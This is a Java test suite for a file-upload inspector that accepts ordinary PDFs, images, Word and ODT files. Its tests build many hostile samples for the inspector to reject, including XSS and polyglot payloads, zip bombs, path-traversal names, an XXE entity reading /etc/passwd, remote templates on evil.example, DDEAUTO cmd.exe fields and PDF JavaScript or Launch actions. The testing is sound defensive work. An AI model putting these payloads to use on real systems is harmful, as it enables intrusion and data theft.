package no.innovasjonsskolen.document;

import static no.innovasjonsskolen.document.Corpus.archive;
import static no.innovasjonsskolen.document.Corpus.both;
import static no.innovasjonsskolen.document.Corpus.openDocument;
import static no.innovasjonsskolen.document.Corpus.pdf;
import static no.innovasjonsskolen.document.Corpus.pdfThat;
import static no.innovasjonsskolen.document.Corpus.picture;
import static no.innovasjonsskolen.document.Corpus.text;
import static no.innovasjonsskolen.document.Corpus.word;
import static no.innovasjonsskolen.document.Corpus.wordWith;
import static org.apache.pdfbox.pdfwriter.compress.CompressParameters.DEFAULT_COMPRESSION;
import static org.apache.pdfbox.pdfwriter.compress.CompressParameters.NO_COMPRESSION;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import no.innovasjonsskolen.CpuTime;
import no.innovasjonsskolen.document.Inspection.Fit;
import no.innovasjonsskolen.document.Inspection.Other;
import no.innovasjonsskolen.document.Inspection.Unfit;
import no.innovasjonsskolen.document.UploadResult.Reason;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class InspectorTest {

    @TempDir
    private Path folder;

    private final Inspector inspector = new Inspector();

    @Test
    @DisplayName("Filene folk har, tas imot: PDF, JPEG, PNG, Word og ODT, også uten eller med gal endelse")
    void takesOrdinaryFiles() {
        taken("vitnemål.pdf", pdf(), FileKind.PDF);
        taken("vitnemål.PDF", pdf(_ -> {}, NO_COMPRESSION), FileKind.PDF);
        taken("bilde.jpeg", picture("jpg"), FileKind.JPEG);
        taken("bilde.jpg", both(picture("jpg"), text("more pictures")), FileKind.JPEG);
        taken("bilde.png", picture("png"), FileKind.PNG);
        taken("bilde.jpg", picture("png"), FileKind.PNG);
        taken("vitnemål", pdf(), FileKind.PDF);
        taken("cv.docx", word(), FileKind.DOCX);
        taken("cv.docx", wordWith("word/embeddings/sheet1.xlsx", archive(Map.of("a.xml", text("<a/>")))),
                FileKind.DOCX);
        taken("cv.odt", openDocument(Map.of("META-INF/manifest.xml", "<manifest/>")), FileKind.ODT);
        assertThat(FileName.of("bilde.jpg").as(FileKind.PNG)).isEqualTo("bilde.png");
        assertThat(FileName.of("vitnemål").as(FileKind.PDF)).isEqualTo("vitnemål.pdf");
    }

    @Test
    @DisplayName("Andre slags filer blir avvist, og vi sier hva de er")
    void refusesOtherKinds() {
        refused("side.pdf", text("<!DOCTYPE html><html><script>alert(1)</script></html>"), "text/html");
        refused("tegning.png", text("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
                "image/svg+xml");
        refused("tegning.svg", text("<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>"),
                "image/svg+xml");
        refused("bilde.jpg", text("GIF89a/*\0\0\0\0*/=1;alert(1)//"), "image/gif");
        refused("program.pdf", both(new byte[]{'M', 'Z', (byte) 0x90, 0, 3, 0, 0, 0}, new byte[500]),
                "application/x-msdownload");
        refused("virus.pdf", Corpus.EICAR, "text/plain");
        refused("arkiv.docx", archive(Map.of("a.txt", text("a"))), "application/zip");
        refused("gammelt.docx", new byte[]{(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1,
                (byte) 0xB1, 0x1A, (byte) 0xE1, 0, 0, 0, 0}, "application/x-tika-msoffice");
    }

    @Test
    @DisplayName("En PDF med et merke eller tomme linjer først er like hel, enten plassene telles med dem eller uten")
    void takesWhatIsWrittenBeforeAPdf() {
        for (var packing : List.of(NO_COMPRESSION, DEFAULT_COMPRESSION)) {
            for (var before : List.of("\u00EF\u00BB\u00BF", "\n", "\r\n\r\n", "\u00EF\u00BB\u00BF\r\n",
                    " \t\n")) {
                taken("a.pdf", both(text(before), pdf(_ -> {}, packing)), FileKind.PDF);
            }
        }
        taken("a.pdf", counted("\u00EF\u00BB\u00BF\n"), FileKind.PDF);
        refused("a.pdf", both(text("<html>"), pdf()), "text/html");
        refused("a.pdf", both(text("\n".repeat(2_000)), pdf()), "text/plain");
        unfit("a.pdf", both(text("\n"), Arrays.copyOf(pdf(), pdf().length / 2)), Reason.DAMAGED);
    }

    @Test
    @DisplayName("En tom, avkuttet eller ødelagt fil blir avvist som skadet")
    void refusesDamaged() {
        unfit("tom.pdf", new byte[0], Reason.EMPTY);
        for (var whole : Map.of("a.pdf", pdf(), "a.png", picture("png"), "a.docx", word(),
                "a.jpg", picture("jpg")).entrySet()) {
            for (int part = 1; part < 4; part++) {
                var cut = Arrays.copyOf(whole.getValue(), whole.getValue().length * part / 4);
                unfit(whole.getKey(), cut, Reason.DAMAGED);
            }
        }
        unfit("a.pdf", text("%PDF-1.7\n%%EOF"), Reason.DAMAGED);
        unfit("a.pdf", text("%PDF-1.7\nstartxref\n99999999999999\n%%EOF"), Reason.DAMAGED);
        unfit("a.pdf", text("%PDF-1.7\nxref\nstartxref\n9\n%%EOF"), Reason.DAMAGED);
    }

    @Test
    @DisplayName("En PDF med skript eller programstart blir avvist, også når det er gjemt")
    void refusesActivePdf() {
        for (var packing : List.of(NO_COMPRESSION, DEFAULT_COMPRESSION)) {
            unfit("a.pdf", pdfThat(new PDActionJavaScript("app.alert(1)"), packing), Reason.ACTIVE);
            unfit("a.pdf", pdfThat(new PDActionLaunch(), packing), Reason.ACTIVE);
        }
        unfit("a.pdf", spelled("/J#61vaScript"), Reason.ACTIVE);
        unfit("a.pdf", hidden("(", "/JS"), Reason.ACTIVE);
        unfit("a.pdf", hidden("<< /Length 9 >>\nstream\n", "/JS"), Reason.ACTIVE);
        unfit("a.pdf", hidden("% ", "/JS"), Reason.ACTIVE);
        taken("a.pdf", pdf(document -> document.getDocumentInformation().setTitle("HTML /JS /Launch (/JS)"),
                NO_COMPRESSION), FileKind.PDF);
    }

    @Test
    @DisplayName("En låst PDF og et låst dokument blir avvist, og vi sier at de er låst")
    void refusesLocked() {
        unfit("a.pdf", Corpus.lockedPdf(), Reason.LOCKED);
        unfit("a.odt", openDocument(Map.of("META-INF/manifest.xml", "<manifest:encryption-data/>")),
                Reason.LOCKED);
        var flagged = word();
        for (int i = 0; i < flagged.length - 4; i++) {
            if (flagged[i] == 'P' && flagged[i + 1] == 'K' && flagged[i + 2] == 1 && flagged[i + 3] == 2) {
                flagged[i + 8] |= 1;
            }
        }
        unfit("a.docx", flagged, Reason.LOCKED);
    }

    @Test
    @DisplayName("Bomber blir avvist på et øyeblikk: arkiver som er mye større inni, og bilder uten ende")
    void refusesBombs() {
        var bomb = Corpus.bomb();
        assertThat(bomb.length).isLessThan(400_000);
        unfit("a.docx", bomb, Reason.SWOLLEN);
        unfit("a.docx", wordWith("word/embeddings/sheet1.xlsx", bomb), Reason.SWOLLEN);
        unfit("a.docx", wordWith("word/embeddings/a.xlsx", archive(Map.of("b.zip", word()))), Reason.SWOLLEN);
        unfit("a.docx", wordWith("customXml/a.zip", word()), Reason.TWO_IN_ONE);
        var many = new LinkedHashMap<String, byte[]>();
        for (int i = 0; i < 10_000; i++) {
            many.put("word/" + i + ".xml", new byte[0]);
        }
        unfit("a.docx", archive(many), Reason.SWOLLEN);
        unfit("a.png", Corpus.floodedPng(), Reason.SWOLLEN);
        unfit("a.jpg", Corpus.floodedJpeg(), Reason.SWOLLEN);
        unfit("a.pdf", swollenPdf(), Reason.SWOLLEN);
    }

    @Test
    @DisplayName("To filer i én blir avvist: arkiv bak et bilde, navn som peker ut, lenker og dobbelte navn")
    void refusesTwoInOne() {
        unfit("a.pdf", both(pdf(), word()), Reason.TWO_IN_ONE);
        unfit("a.jpg", both(picture("jpg"), word()), Reason.TWO_IN_ONE);
        unfit("a.png", both(picture("png"), text("<script>")), Reason.TWO_IN_ONE);
        unfit("a.docx", both(word(), word()), Reason.TWO_IN_ONE);
        for (var name : new String[]{"../../etc/passwd", "/etc/passwd", "word\\..\\a", "c:/a", "a/./b",
                "a//b"}) {
            unfit("a.docx", wordWith(name, text("a")), Reason.TWO_IN_ONE);
        }
        unfit("a.docx", wordWith("WORD/document.xml", text("a")), Reason.TWO_IN_ONE);
        var link = wordWith("word/link", text("/etc/passwd"));
        var header = new String(link, StandardCharsets.ISO_8859_1).lastIndexOf("PK\u0001\u0002");
        link[header + 41] = (byte) 0xA1;
        unfit("a.docx", link, Reason.TWO_IN_ONE);
    }

    @Test
    @DisplayName("Word med makroer, programmer, skjulte kilder eller en mal fra nettet blir avvist")
    void refusesActiveWord() {
        for (var name : new String[]{"word/vbaProject.bin", "word/activeX/activeX1.xml", "word/media/a.EXE",
                "word/embeddings/oleObject1.bin"}) {
            unfit("a.docx", wordWith(name, text("a")), Reason.ACTIVE);
        }
        unfit("a.docx", wordWith("word/styles.xml",
                text("<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>")), Reason.ACTIVE);
        unfit("a.docx", wordWith("word/styles.xml", "<!DOCTYPE x []>".getBytes(StandardCharsets.UTF_16)),
                Reason.ACTIVE);
        var relations = "word/_rels/settings.xml.rels";
        unfit("a.docx", wordWith(relations, text("<Relationship Id=\"a\" Type=\"http://x/attachedTemplate\" "
                + "Target=\"https://evil.example/a.dotm\" TargetMode=\"External\"/>")), Reason.ACTIVE);
        taken("a.docx",
                wordWith(relations, text("<r><Relationship Id=\"a\" Type=\"http://x/attachedTemplate\" "
                        + "Target=\"file:///C:/maler/brev.dotm\" TargetMode=\"External\"/><Relationship Id=\"b\" "
                        + "Type=\"http://x/hyperlink\" Target=\"https://ks.no/\"/></r>")),
                FileKind.DOCX);
        unfit("a.odt", openDocument(Map.of("Basic/Standard/Module1.xml", "<a/>")), Reason.ACTIVE);
    }

    @Test
    @DisplayName("Det som hentes når Word eller ODT åpnes, blir avvist uansett hvordan det er skrevet; lenker og egen disk går")
    void refusesWhatIsFetched() {
        for (var target : new String[]{"https://evil.example/a.dotm", "HTTPS://evil.example/a.dotm",
                "\\\\evil\\a.dotm", "file://evil/a.dotm", "file:////evil/a.dotm", "file:///\\\\evil/a.dotm",
                "%5C%5Cevil%5Ca.dotm", "//evil/a.dotm", "&#104;ttp://evil.example/a.dotm",
                "mhtml:http://evil.example/a", "ftp://evil.example/a"}) {
            for (var type : new String[]{"attachedTemplate", "image", "frame", "oleObject"}) {
                unfit("a.docx", wordWith("word/_rels/settings.xml.rels", text("<r:Relationships xmlns:r='x'>"
                        + "<r:Relationship r2='' Target='" + target
                        + "'  TargetMode = 'external'\n Type='http://x/"
                        + type + "'/></r:Relationships>")), Reason.ACTIVE);
            }
        }
        unfit("a.docx", wordWith("word/_rels/settings.xml.rels", ("<?xml version='1.0' encoding='UTF-16'?>"
                + "<Relationship Type='http://x/image' TargetMode='External' Target='http://e.example/'/>")
                .getBytes(StandardCharsets.UTF_16)), Reason.ACTIVE);
        unfit("a.docx", wordWith("word/_rels/a.rels", text("<!DOCTYPE a [<!ENTITY e 'http'>]><Relationship "
                + "Type='http://x/image' TargetMode='External' Target='&e;://e.example/'/>")), Reason.ACTIVE);
        unfit("a.docx", wordWith("word/_rels/a.rels", text("<Relationships><Relationship")), Reason.DAMAGED);
        for (var kept : new String[]{"<Relationship Type='http://x/hyperlink' TargetMode='External' "
                + "Target='https://ks.no/'/>",
                "<Relationship Type='http://x/attachedTemplate' "
                        + "TargetMode='External' Target='file:///C:\\Maler\\brev.dotx'/>",
                "<Relationship Type='http://x/image' Target='media/image1.png'/>"}) {
            taken("a.docx", wordWith("word/_rels/a.rels", text(kept)), FileKind.DOCX);
        }
        unfit("a.docx", wordWith("word/_rels/a.rels", text("<Relationship xmlns:x='x' x:Type='/hyperlink' "
                + "Type='http://x/attachedTemplate' TargetMode='External' Target='https://e.example/'/>")),
                Reason.ACTIVE);
        for (var instruction : new String[]{"INCLUDEPICTURE \"https://e.example/a.png\"",
                "includetext \\\\\\\\evil\\\\a", "DDEAUTO c:\\\\cmd.exe"}) {
            var half = instruction.length() / 2;
            unfit("a.docx", wordWith("word/footnotes.xml", text("<w:p xmlns:w='w'><w:r><w:instrText>"
                    + instruction.substring(0, half) + "</w:instrText></w:r><w:r><w:instrText>"
                    + instruction.substring(half) + "</w:instrText></w:r></w:p>")), Reason.ACTIVE);
            unfit("a.docx", wordWith("word/footer1.xml", text("<w:p xmlns:w='w'><w:fldSimple w:instr='"
                    + instruction + "'/></w:p>")), Reason.ACTIVE);
        }
        taken("a.docx", wordWith("word/footer1.xml", text("<w:p xmlns:w='w'><w:r><w:instrText> HYPERLINK "
                + "\"https://ks.no/\"</w:instrText></w:r><w:r><w:t>DDE og https://ks.no</w:t></w:r>"
                + "<w:fldSimple w:instr=' PAGE '/></w:p>")), FileKind.DOCX);
        var odt = "<c xmlns:x='http://www.w3.org/1999/xlink'>%s</c>";
        unfit("a.odt",
                openDocument(Map.of("styles.xml", odt.formatted("<i x:href='https://e.example/b.png'/>"))),
                Reason.ACTIVE);
        unfit("a.odt", openDocument(Map.of("settings.xml", odt.formatted("<event-listener/>"))),
                Reason.ACTIVE);
        unfit("a.odt", openDocument(Map.of("Object 1/content.xml",
                odt.formatted("<i x:href='https://e.example/b.png'/>"))), Reason.ACTIVE);
        taken("a.odt", openDocument(Map.of("styles.xml", odt.formatted("<a x:href='https://ks.no/'/>"
                + "<i x:href='Pictures/1.png'/>"))), FileKind.ODT);
    }

    @Test
    @DisplayName("En PDF med vedlegg eller et skjema som sender, blir avvist, også med navn skrevet i tall")
    void refusesPdfThatSends() {
        for (var name : new String[]{"EmbeddedFile", "SubmitForm", "ImportData", "XFA", "#45mbeddedFiles"}) {
            unfit("a.pdf", text(new String(pdf(_ -> {}, NO_COMPRESSION), StandardCharsets.ISO_8859_1)
                    .replaceFirst("trailer\\s*<<", "trailer\n<< /" + name + " 1 ")), Reason.ACTIVE);
        }
    }

    @Test
    @DisplayName("En liten fil som er laget for å koste mye, blir avvist på et øyeblikk: hver leser deler ett budsjett")
    void costsLittle() {
        var hostile = new LinkedHashMap<String, byte[]>();
        hostile.put("rels", wordWith("word/_rels/a.rels", text("<Relationship ".repeat(700_000))));
        hostile.put("packed rels", packed("word/_rels/a.rels", "<Relationship ".repeat(4_000_000)));
        hostile.put("attributes", packed("word/_rels/a.rels", "<a " + "b='' ".repeat(4_000_000) + "/>"));
        hostile.put("depth", packed("word/_rels/a.rels", "<a>".repeat(3_000_000)));
        hostile.put("names", wordWith("word/" + "oleobject".repeat(7_000), text("a")));
        hostile.put("streams", text("%PDF-1.7\n<</FlateDecode/ObjStm>>\n"
                + "stream\n\u0000\u0000\u0000\u00FF\u00FF".repeat(700_000) + "\nxref\nstartxref\n9\n%%EOF"));
        hostile.put("parentheses",
                text("%PDF-1.7\n" + "(\\".repeat(4_000_000) + "\nxref\nstartxref\n9\n%%EOF"));
        hostile.forEach((name, bytes) -> {
            assertThat(CpuTime.of(() -> look(bytes))).as(name).isLessThan(Duration.ofSeconds(3));
            assertThat(look(bytes)).as(name).isInstanceOf(Inspection.Unfit.class);
        });
    }

    @Test
    @DisplayName("Hva som helst inn: det kommer alltid et svar, og det kommer fort")
    void alwaysAnswers() {
        var wholes = List.of(pdf(), pdf(_ -> {}, NO_COMPRESSION), picture("png"), picture("jpg"), word());
        for (int trial = 0; trial < 1_500; trial++) {
            var random = new Random(trial);
            var bytes = wholes.get(random.nextInt(wholes.size())).clone();
            for (int i = random.nextInt(20); i >= 0; i--) {
                bytes[random.nextInt(8, bytes.length)] = (byte) random.nextInt();
            }
            assertThat(CpuTime.of(() -> look(bytes))).as("trial %d", trial)
                    .isLessThan(Duration.ofSeconds(5));
        }
        for (var bad : new String[]{"1 0 obj (", "1 0 obj <</a", "(((((((((", "<< /ObjStm >>\nstream\n"}) {
            var bytes = text("%PDF-1.7\n" + bad.repeat(9_000_000 / bad.length())
                    + "\nxref\nstartxref\n9\n%%EOF");

            assertThat(CpuTime.of(() -> look(bytes))).as(bad)
                    .isLessThan(Duration.ofSeconds(10));
        }
    }

    /** A small file with a large entry. */
    private static byte[] packed(String name, String content) {
        var out = new ByteArrayOutputStream();
        try (var archive = new ZipOutputStream(out)) {
            archive.putNextEntry(new ZipEntry(name));
            archive.write(text(content));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private void taken(String name, byte[] content, FileKind kind) {
        assertThat(look(content)).as(name).isEqualTo(new Fit(kind));
    }

    private void refused(String name, byte[] content, String found) {
        assertThat(look(content)).as(name).isEqualTo(new Other(found));
    }

    private void unfit(String name, byte[] content, Reason reason) {
        assertThat(look(content)).as(name).isEqualTo(new Unfit(reason));
    }

    private Inspection look(byte[] content) {
        try {
            var file = folder.resolve("file");
            Files.write(file, content);
            return inspector.inspect(file);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** A PDF whose places are counted from the file's first byte, before what comes before it. */
    private static byte[] counted(String before) {
        var body = before + "%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n";
        return text(
                body + "xref\n0 1\ntrailer\n<< /Root 1 0 R >>\nstartxref\n" + body.length() + "\n%%EOF\n");
    }

    /** A PDF whose opening action is spelled like this. */
    private static byte[] spelled(String action) {
        return object("", "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S " + action + " >> >>");
    }

    /** A PDF with something between its objects that might swallow the next one. */
    private static byte[] hidden(String swallower, String action) {
        return object(swallower, "<< /Type /Catalog /Pages 2 0 R /OpenAction << " + action + " (a) >> >>");
    }

    private static byte[] object(String before, String catalog) {
        var body = "%PDF-1.7\n" + before + "\n1 0 obj\n" + catalog + "\nendobj\n";
        return text(body + "xref\n0 1\ntrailer\n<< /Root 1 0 R >>\nstartxref\n" + body.length()
                + "\n%%EOF\n");
    }

    /** Pictures in it unfold into more than half a gigabyte. */
    private static byte[] swollenPdf() {
        var packer = new Deflater();
        packer.setInput(new byte[60_000_000]);
        packer.finish();
        var packed = new byte[100_000];
        var stream = new String(Arrays.copyOf(packed, packer.deflate(packed)), StandardCharsets.ISO_8859_1);
        var streams = new StringBuilder("%PDF-1.7\nxref\n");
        for (int i = 1; i < 12; i++) {
            streams.append(i).append(" 0 obj\n<< /Filter /FlateDecode >>\nstream\n").append(stream)
                    .append("\nendstream\nendobj\n");
        }
        return text(streams.append("<< /Pages 1 0 R >>\nstartxref\n9\n%%EOF\n").toString());
    }
}
